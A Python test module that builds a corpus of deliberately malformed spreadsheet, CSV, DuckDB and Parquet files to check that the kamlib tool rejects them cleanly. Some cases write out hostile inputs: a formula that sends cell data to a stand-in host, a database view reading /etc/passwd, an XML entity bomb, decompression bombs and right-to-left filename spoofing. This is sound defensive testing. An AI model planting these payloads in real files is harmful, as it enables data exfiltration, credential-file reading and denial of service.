"""The hostile corpus: client files built to break kamlib, each generated here from the bundled sample.

Nothing in it is a committed binary: every case is a function that writes its file(s) into a folder and says
which `kam` command to run on them, the exit code it must end with (0 or 2, never a traceback) and what its
message must say. `tests/hostile/test_corpus.py` runs every case; `benchmarks/bench_hostile.py` times each
one as a process and measures its memory. Run `python tests/hostile/corpus.py OUT` to write the corpus to a
folder and look at it.

Each case names the finding of issue 18 it reproduces.
"""

from __future__ import annotations

import argparse
import re
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

SAMPLE = Path(__file__).resolve().parents[2] / "kamlib" / "samples" / "sample"


@dataclass(frozen=True)
class Case:
    """One hostile input: how to build it, the command to run on it, and what must come out."""

    name: str
    finding: int
    build: Callable[[Path], list[str]]
    """Write the file(s) into a folder; return the `kam` arguments that read them."""
    code: int
    said: tuple[str, ...]
    """Texts the output (stderr with exit 2, stdout and stderr with exit 0) must hold, in English."""


def sample_folder(folder: Path, name: str = "engagement") -> Path:
    """A copy of the bundled sample as a CSV folder."""
    target = folder / name
    shutil.copytree(SAMPLE, target)
    return target


def sample_xlsx(folder: Path, name: str = "engagement.xlsx", sheets: dict[str, pd.DataFrame] | None = None) -> Path:
    """The bundled sample as an .xlsx workbook (`sheets` replace or add sheets by tab title)."""
    frames = {p.stem: pd.read_csv(p, dtype=str, keep_default_na=False) for p in sorted(SAMPLE.glob("*.csv"))}
    frames |= sheets or {}
    target = folder / name
    with pd.ExcelWriter(target, engine="openpyxl") as writer:
        for title, frame in frames.items():
            frame.apply(_numbers_as_numbers).to_excel(writer, sheet_name=title, index=False)
    return target


def _numbers_as_numbers(column: pd.Series) -> pd.Series:
    """A column of numbers typed as numbers, as a person's workbook holds them (ids stay text)."""
    numbers = pd.to_numeric(column.replace("", None), errors="coerce")
    typed = numbers.notna() | column.eq("")
    return numbers if typed.all() and not column.name.endswith("_id") else column


def sheet_member(title: str) -> str:
    """The zip member of a sample sheet in `sample_xlsx`'s workbook (tabs in the sample's order)."""
    titles = [p.stem for p in sorted(SAMPLE.glob("*.csv"))]
    return f"xl/worksheets/sheet{titles.index(title) + 1}.xml"


def _edit_line(path: Path, number: int, edit: Callable[[str], str], encoding: str = "utf-8") -> None:
    lines = path.read_text(encoding=encoding).split("\n")
    lines[number - 1] = edit(lines[number - 1])
    path.write_text("\n".join(lines), encoding=encoding)


# --- finding 3: rows lost in silence to a stray quote ----------------------------------------------------


def stray_quote_in_a_score(folder: Path) -> list[str]:
    """Row 401 of scores.csv opens a quote in its criterion that is never closed."""
    wb = sample_folder(folder)
    _edit_line(wb / "scores.csv", 401, lambda line: line.replace(",", ',"', 1))
    return ["validate", str(wb)]


def stray_quote_in_a_name(folder: Path) -> list[str]:
    """An account's name opens a quote that a later name closes: the rows between would become one name."""
    wb = sample_folder(folder)
    _edit_line(wb / "accounts.csv", 5, lambda line: line.replace(",", ',"', 1))
    _edit_line(wb / "accounts.csv", 9, lambda line: line.replace(",", '",', 2).replace('",', ",", 1))
    return ["validate", str(wb)]


def stray_quote_in_time(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    _edit_line(wb / "time.csv", 6, lambda line: line.replace(",", ',"', 1))
    return ["validate", str(wb)]


def a_cell_beyond_the_csv_limit(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    _edit_line(wb / "accounts.csv", 3, lambda line: line.replace(",", "," + "x" * 140_000, 1))
    return ["validate", str(wb)]


def a_nul_character(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    _edit_line(wb / "kams.csv", 2, lambda line: line + "\x00")
    return ["validate", str(wb)]


def old_mac_line_ends(folder: Path) -> list[str]:
    """Line ends as a lone carriage return (classic Mac): read, not a traceback."""
    wb = sample_folder(folder)
    path = wb / "kams.csv"
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    return ["validate", str(wb)]


# --- finding 4: one Windows-1252 byte in a UTF-8 file -----------------------------------------------------


def a_windows_byte_in_utf8(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    path = wb / "accounts.csv"
    lines = path.read_bytes().split(b"\n")
    lines[7] = lines[7].replace(b",", b",Pe\xf1a ", 1)  # "ñ" as Windows-1252 writes it
    path.write_bytes(b"\n".join(lines))
    return ["validate", str(wb)]


# --- finding 5: duplicate sheets ------------------------------------------------------------------------


def two_csv_files_for_one_sheet(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    (wb / "Accounts.csv").write_text((wb / "accounts.csv").read_text(encoding="utf-8").replace("6902872", "1"))
    return ["validate", str(wb)]


def two_tabs_for_one_sheet(folder: Path) -> list[str]:
    accounts = pd.read_csv(SAMPLE / "accounts.csv", dtype=str, keep_default_na=False)
    changed = accounts.assign(revenue="1")
    return ["validate", str(sample_xlsx(folder, sheets={"Accounts ": changed}))]


# --- finding 7: bidirectional controls ------------------------------------------------------------------


def a_direction_mark_in_an_id(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    for sheet in ("accounts", "scores"):
        path = wb / f"{sheet}.csv"
        path.write_text(path.read_text(encoding="utf-8").replace("A012,", "A012\u202egnp.exe,"), encoding="utf-8")
    return ["validate", str(wb)]


def a_direction_mark_in_a_name(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    path = wb / "accounts.csv"
    text = path.read_text(encoding="utf-8").replace("Supermercados Levante", "Supermercados \u202eetnaveL")
    path.write_text(text, encoding="utf-8")
    return ["score", str(wb)]


# --- finding 13: a damaged .xlsx ------------------------------------------------------------------------


def _rewrite_member(path: Path, member: str, edit: Callable[[bytes], bytes]) -> None:
    source = path.with_suffix(".orig.xlsx")
    path.rename(source)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            new.writestr(info, edit(data) if info.filename == member else data)
    source.unlink()


def malformed_sheet_xml(folder: Path) -> list[str]:
    wb = sample_xlsx(folder)
    _rewrite_member(wb, sheet_member("scores"), lambda data: data[: len(data) // 2])
    return ["validate", str(wb)]


def damaged_deflate_stream(folder: Path) -> list[str]:
    """Bytes in the middle of a compressed sheet overwritten: the zip's directory still reads."""
    wb = sample_xlsx(folder)
    _damage_deflate(wb, sheet_member("scores"))
    return ["validate", str(wb)]


def _damage_deflate(path: Path, member: str) -> None:
    with zipfile.ZipFile(path) as book:
        info = book.getinfo(member)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data[middle : middle + 64] = bytes(64)
    path.write_bytes(bytes(data))


def _ledger(folder: Path) -> tuple[Path, Path]:
    """The sample ledger's mapping and its sales as an .xlsx file (one sheet)."""
    ledger = SAMPLE.parent / "sample_ledger"
    shutil.copy(ledger / "ventas.yaml", folder / "ventas.yaml")
    sales = pd.read_csv(ledger / "ventas.csv", sep=";", dtype=str, keep_default_na=False)
    sales.to_excel(folder / "ventas.xlsx", index=False, sheet_name="ventas")
    return folder / "ventas.xlsx", folder / "ventas.yaml"


# --- finding 6: external links ----------------------------------------------------------------------------


def an_external_link(folder: Path) -> list[str]:
    """A001's revenue is a formula reading another workbook, with a stale cached value of 99,999,999."""
    wb = sample_xlsx(folder)
    member = sheet_member("accounts")

    def link(xml: bytes) -> bytes:
        start = xml.index(b'<c r="E2"')
        end = xml.index(b"</c>", start) + 4
        return xml[:start] + b'<c r="E2"><f>[1]Hoja1!$A$1</f><v>99999999</v></c>' + xml[end:]

    _rewrite_member(wb, member, link)
    with zipfile.ZipFile(wb, "a") as book:
        book.writestr("xl/externalLinks/externalLink1.xml", _EXTERNAL_LINK)
    return ["validate", str(wb)]


_EXTERNAL_LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook>'
    '<sheetNames><sheetName val="Hoja1"/></sheetNames></externalBook></externalLink>'
)


# --- finding 12: files that exhaust memory or time ----------------------------------------------------------


def one_huge_shared_string(folder: Path) -> list[str]:
    """The workbook's texts hold one string of 200 million letters: 200 KB packed."""
    wb = sample_xlsx(folder)

    with zipfile.ZipFile(wb) as old:
        names = [(i, old.read(i.filename)) for i in old.infolist() if i.filename != "xl/sharedStrings.xml"]
    with zipfile.ZipFile(wb, "w", zipfile.ZIP_DEFLATED) as new:
        for info, data in names:
            new.writestr(info, data)
        with new.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            for _ in range(200):
                part.write(b"a" * 1_000_000)
            part.write(b"</t></si></sst>")
    return ["validate", str(wb)]


def a_cell_in_column_xfd(folder: Path) -> list[str]:
    """2,000 rows of scores, each with one cell in the sheet's last column (XFD): 122 KB."""
    from openpyxl import load_workbook

    wb = sample_xlsx(folder)
    book = load_workbook(wb)
    sheet = book["scores"]
    for row in range(2, 2002):
        sheet.cell(row=row, column=16384, value="x")
    book.save(wb)
    return ["validate", str(wb)]


# --- finding 13 in the ledger's readers ------------------------------------------------------------------


def a_damaged_ledger(folder: Path) -> list[str]:
    sales, mapping = _ledger(folder)
    _damage_deflate(sales, "xl/worksheets/sheet1.xml")
    return ["ingest", str(sales), str(sample_folder(folder)), "--map", str(mapping)]


def a_damaged_wallet(folder: Path) -> list[str]:
    ledger = SAMPLE.parent / "sample_ledger"
    wallet = folder / "wallet.xlsx"
    pd.read_csv(ledger / "wallet.csv", sep=";", dtype=str).to_excel(wallet, index=False)
    _damage_deflate(wallet, "xl/worksheets/sheet1.xml")
    wb = sample_folder(folder)
    return [
        "ingest",
        str(ledger / "ventas.csv"),
        str(wb),
        "--map",
        str(ledger / "ventas.yaml"),
        "--wallet",
        str(wallet),
    ]


# --- finding 2: a database that reads files ----------------------------------------------------------------


def a_view_that_reads_a_file(folder: Path) -> list[str]:
    """A client's DuckDB file whose `ventas` view reads /etc/passwd (or any file of the consultant's machine)."""
    import duckdb

    database = folder / "client.duckdb"
    with duckdb.connect(str(database)) as connection:
        connection.execute("CREATE VIEW ventas AS SELECT * FROM read_text('/etc/passwd')")
    return ["ingest", str(database), str(sample_folder(folder)), "--query", "ventas"]


# --- finding 1: text that would become a formula ----------------------------------------------------------


def a_formula_as_a_customer_name(folder: Path) -> list[str]:
    """A new customer of the ledger is named =WEBSERVICE(…): ingested, it must stay text in the workbook."""
    ledger = SAMPLE.parent / "sample_ledger"
    sales = (ledger / "ventas.csv").read_text(encoding="utf-8").splitlines()
    payload = '"=WEBSERVICE(""http://x.example/?""&B2)"'
    sales.append(
        sales[-1].split(";", 1)[0] + ";FV99-1;Z999;" + payload + ";CV-104;Conservas vegetales;1;10,00;5,00;EUR"
    )
    (folder / "ventas.csv").write_text("\n".join(sales) + "\n", encoding="utf-8")
    shutil.copy(ledger / "ventas.yaml", folder / "ventas.yaml")
    wb = sample_folder(folder)
    return ["ingest", str(folder / "ventas.csv"), str(wb), "--map", str(folder / "ventas.yaml")]


# --- finding 17: XML parsed without defences ----------------------------------------------------------------


def billion_laughs(folder: Path) -> list[str]:
    """The workbook part declares nested entities that expand to gigabytes."""
    wb = sample_xlsx(folder)
    entities = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    _rewrite_member(
        wb, "xl/workbook.xml", lambda xml: xml.replace(b"<workbook", (entities + "]><workbook").encode(), 1)
    )
    return ["validate", str(wb)]


# --- from the hostile review of the readers ------------------------------------------------------------------


def _edit_sheet(wb: Path, title: str, edit: Callable[[bytes], bytes]) -> None:
    _rewrite_member(wb, sheet_member(title), edit)


def cells_without_r(folder: Path) -> list[str]:
    """The scores sheet's cells name no place (r is optional in the format): placed by their order."""
    wb = sample_xlsx(folder)
    _edit_sheet(wb, "scores", lambda xml: re.sub(rb' r="[A-Z]+[0-9]+"', b"", xml))
    return ["validate", str(wb)]


def attributes_in_another_order(folder: Path) -> list[str]:
    """Rows with spans before r, cells' r in single quotes: valid XML, the same sheet."""
    wb = sample_xlsx(folder)

    def reorder(xml: bytes) -> bytes:
        xml = re.sub(rb'<row r="([0-9]+)"', rb'<row spans="1:5" r="\1"', xml)
        return re.sub(rb' r="([A-Z]+[0-9]+)"', rb" r='\1'", xml)

    _edit_sheet(wb, "scores", reorder)
    return ["validate", str(wb)]


def a_quote_open_on_the_last_line(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    path = wb / "kams.csv"
    lines = path.read_text(encoding="utf-8").rstrip("\n").split("\n")
    *head, last = lines[-1].split(",")
    lines[-1] = ",".join(head[:-1]) + ',"' + head[-1] + "," + last
    path.write_text("\n".join(lines), encoding="utf-8")  # no line end after it
    return ["validate", str(wb)]


def cached_formula_errors(folder: Path) -> list[str]:
    """Ten scores are formulas whose cached value is #N/A."""
    wb = sample_xlsx(folder)

    def errors(xml: bytes) -> bytes:
        for row in range(2, 12):
            xml = re.sub(
                rb'<c r="C%d"[^>]*>.*?</c>' % row, b'<c r="C%d" t="e"><f>VLOOKUP(1)</f><v>#N/A</v></c>' % row, xml
            )
        return xml

    _edit_sheet(wb, "scores", errors)
    return ["validate", str(wb)]


def two_tabs_with_one_name(folder: Path) -> list[str]:
    """A second tab named exactly "accounts", on a copy of the accounts sheet where A001's revenue is 1."""
    wb = sample_xlsx(folder)
    with zipfile.ZipFile(wb) as old:
        parts = {i.filename: old.read(i.filename) for i in old.infolist()}
    accounts = sheet_member("accounts")
    parts["xl/worksheets/sheet99.xml"] = parts[accounts].replace(b"6902872", b"1")
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>",
        b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="accounts" '
        b'sheetId="99" r:id="rId99"/></sheets>',
    )
    relation = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'worksheet" Target="worksheets/sheet99.xml"/></Relationships>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", relation)
    with zipfile.ZipFile(wb, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return ["validate", str(wb)]


def a_tab_without_its_part(folder: Path) -> list[str]:
    wb = sample_xlsx(folder)
    target = sheet_member("stakeholders").removeprefix("xl/").encode()
    _rewrite_member(wb, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(target, b"worksheets/gone.xml"))
    return ["validate", str(wb)]


def a_row_beyond_excel(folder: Path) -> list[str]:
    """One cell in row 20,000,000 (Excel stops at 1,048,576): 112 KB that would take gigabytes."""
    wb = sample_xlsx(folder)
    far = b'<row r="20000000"><c r="A20000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    _edit_sheet(wb, "kams", lambda xml: xml.replace(b"</sheetData>", far))
    return ["validate", str(wb)]


def a_padded_text(folder: Path) -> list[str]:
    """A name of 5 million letters (Excel allows 32,767 in a cell), packed small."""
    wb = sample_xlsx(folder)
    _edit_sheet(wb, "accounts", lambda xml: xml.replace(b"Supermercados Levante", b"a" * 5_000_000, 1))
    return ["validate", str(wb)]


def a_link_through_a_name(folder: Path) -> list[str]:
    """A001's revenue is the defined name Precio, which reads another workbook."""
    wb = sample_xlsx(folder)
    _edit_sheet(
        wb,
        "accounts",
        lambda xml: re.sub(rb'<c r="E2"[^>]*>.*?</c>', b'<c r="E2"><f>Precio</f><v>99999999</v></c>', xml),
    )
    name = b'<definedNames><definedName name="Precio">[1]Hoja1!$A$1</definedName></definedNames></workbook>'
    _rewrite_member(wb, "xl/workbook.xml", lambda xml: xml.replace(b"</workbook>", name))
    with zipfile.ZipFile(wb, "a") as book:
        book.writestr("xl/externalLinks/externalLink1.xml", _EXTERNAL_LINK)
    return ["validate", str(wb)]


def an_id_padded_with_a_filler(folder: Path) -> list[str]:
    """ "A012" followed by a Hangul filler, which shows as nothing: another id that looks like A012."""
    wb = sample_folder(folder)
    path = wb / "scores.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("A012,", "A012\u3164,", 1), encoding="utf-8")
    return ["validate", str(wb)]


def a_link_to_a_file_elsewhere(folder: Path) -> list[str]:
    wb = sample_folder(folder)
    (wb / "notes.csv").symlink_to("/etc/hostname")
    return ["validate", str(wb)]


def ingest_into_a_sheet_padded_to_xfd(folder: Path) -> list[str]:
    """kam validate reads it; kam ingest would rewrite it whole with openpyxl, cell by cell."""
    wb = Path(a_cell_in_column_xfd(folder)[1])
    ledger = SAMPLE.parent / "sample_ledger"
    return ["ingest", str(ledger / "ventas.csv"), str(wb), "--map", str(ledger / "ventas.yaml")]


def a_line_of_commas(folder: Path) -> list[str]:
    """An extra sheet of 200 lines of 131,000 commas each: 26 MB that would split into 26 million cells."""
    wb = sample_folder(folder)
    (wb / "notes.csv").write_text("nota\n" + ("," * 131_000 + "\n") * 200, encoding="utf-8")
    return ["validate", str(wb)]


def a_ledger_of_lists(folder: Path) -> list[str]:
    """A Parquet ledger whose customer column holds lists of numbers."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    ledger = SAMPLE.parent / "sample_ledger"
    sales = pd.read_csv(ledger / "ventas.csv", sep=";", dtype=str, keep_default_na=False)
    table = pa.Table.from_pandas(sales, preserve_index=False)
    at = table.schema.get_field_index("Cód. cliente")
    table = table.set_column(at, "Cód. cliente", pa.array([[1, 2]] * len(sales), pa.list_(pa.int64())))
    pq.write_table(table, folder / "ventas.parquet")
    shutil.copy(ledger / "ventas.yaml", folder / "ventas.yaml")
    return ["ingest", str(folder / "ventas.parquet"), str(sample_folder(folder)), "--map", str(folder / "ventas.yaml")]


def one_long_string_in_many_cells(folder: Path) -> list[str]:
    """Every account's name is one shared string of 8 million letters (under the packed-ratio check's 8 MiB)."""
    wb = sample_xlsx(folder)
    _edit_sheet(
        wb,
        "accounts",
        lambda xml: re.sub(
            rb'<c r="B([2-9]|[1-9][0-9]+)" t="inlineStr"><is><t>[^<]*</t></is></c>',
            rb'<c r="B\1" t="s"><v>0</v></c>',
            xml,
        ),
    )
    with zipfile.ZipFile(wb, "a") as book, book.open("xl/sharedStrings.xml", "w") as part:
        part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
        part.write(b"a" * 8_000_000)
        part.write(b"</t></si></sst>")
    return ["validate", str(wb)]


CASES: tuple[Case, ...] = (
    Case("stray_quote_in_a_score", 3, stray_quote_in_a_score, 2, ('column "criterion_id" runs from line 401',)),
    Case("stray_quote_in_a_name", 3, stray_quote_in_a_name, 2, ('column "name" runs from line 5 to line 9',)),
    Case("stray_quote_in_time", 3, stray_quote_in_time, 2, ("time.csv", "runs from line 6")),
    Case("a_cell_beyond_the_csv_limit", 3, a_cell_beyond_the_csv_limit, 2, ("line 3: a cell longer than",)),
    Case("a_nul_character", 3, a_nul_character, 2, ("kams.csv", "line 2: a NUL character")),
    Case("old_mac_line_ends", 3, old_mac_line_ends, 0, ("48 accounts",)),
    Case("a_windows_byte_in_utf8", 4, a_windows_byte_in_utf8, 2, ("accounts.csv", "line 8: byte 0xF1 is not UTF-8")),
    Case("two_csv_files_for_one_sheet", 5, two_csv_files_for_one_sheet, 2, ('"Accounts.csv" and "accounts.csv"',)),
    Case("two_tabs_for_one_sheet", 5, two_tabs_for_one_sheet, 2, ('"accounts" and "Accounts "',)),
    Case("a_direction_mark_in_an_id", 7, a_direction_mark_in_an_id, 2, ("invisible character U+202E",)),
    Case("a_direction_mark_in_a_name", 7, a_direction_mark_in_a_name, 0, ("Supermercados etnaveL",)),
    Case("malformed_sheet_xml", 13, malformed_sheet_xml, 2, ('sheet "scores"', "the sheet cannot be read")),
    Case("damaged_deflate_stream", 13, damaged_deflate_stream, 2, ('sheet "scores"', "the sheet cannot be read")),
    Case("a_damaged_ledger", 13, a_damaged_ledger, 2, ("ventas.xlsx", "the sheet cannot be read")),
    Case("a_damaged_wallet", 13, a_damaged_wallet, 2, ("wallet.xlsx", "the sheet cannot be read")),
    Case("an_external_link", 6, an_external_link, 0, ("accounts!E2 read another workbook",)),
    Case("one_huge_shared_string", 12, one_huge_shared_string, 2, ("xl/sharedStrings.xml", "zip bomb")),
    Case("a_cell_in_column_xfd", 12, a_cell_in_column_xfd, 0, ("820 scores",)),
    Case("billion_laughs", 17, billion_laughs, 2, ("xl/workbook.xml declares XML entities",)),
    Case("a_view_that_reads_a_file", 2, a_view_that_reads_a_file, 2, ("reaches outside the database",)),
    Case("a_formula_as_a_customer_name", 1, a_formula_as_a_customer_name, 0, ("C110, Z999)",)),
    Case("cells_without_r", 12, cells_without_r, 0, ("820 scores",)),
    Case("attributes_in_another_order", 12, attributes_in_another_order, 0, ("820 scores",)),
    Case("a_quote_open_on_the_last_line", 3, a_quote_open_on_the_last_line, 2, ('column "max_accounts" runs from',)),
    Case("cached_formula_errors", 13, cached_formula_errors, 2, ("got '#N/A'",)),
    Case("two_tabs_with_one_name", 5, two_tabs_with_one_name, 2, ('"accounts" and "accounts"',)),
    Case("a_tab_without_its_part", 13, a_tab_without_its_part, 2, ('sheet "stakeholders"', "cannot be read")),
    Case("a_row_beyond_excel", 12, a_row_beyond_excel, 2, ("beyond Excel's last row or column",)),
    Case("a_padded_text", 12, a_padded_text, 2, ("longer than the 32,767 characters",)),
    Case("a_link_through_a_name", 6, a_link_through_a_name, 0, ("(Precio) read another workbook",)),
    Case("an_id_padded_with_a_filler", 7, an_id_padded_with_a_filler, 2, ("invisible character U+3164",)),
    Case("a_link_to_a_file_elsewhere", 7, a_link_to_a_file_elsewhere, 2, ("notes.csv", "a link to a file elsewhere")),
    Case("ingest_into_a_sheet_padded_to_xfd", 12, ingest_into_a_sheet_padded_to_xfd, 2, ("cells as far as XFD",)),
    Case("a_line_of_commas", 12, a_line_of_commas, 2, ("notes.csv", "line 2: more than 16,384 cells on one line")),
    Case("a_ledger_of_lists", 13, a_ledger_of_lists, 2, ("'Cód. cliente', row 1: a list of values in one cell",)),
    Case(
        "one_long_string_in_many_cells",
        12,
        one_long_string_in_many_cells,
        2,
        ("the workbook holds a text longer than the 32,767 characters",),
    ),
)


def write_corpus(out: Path) -> dict[str, list[str]]:
    """Build every case in its own folder under `out`; return each case's `kam` arguments."""
    commands = {}
    for case in CASES:
        folder = out / case.name
        folder.mkdir(parents=True)
        commands[case.name] = case.build(folder)
    return commands


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="Write the hostile corpus into a folder.")
    parser.add_argument("out", type=Path)
    for name, args in write_corpus(parser.parse_args().out).items():
        print(f"{name}: kam {' '.join(args)}", file=sys.stdout)
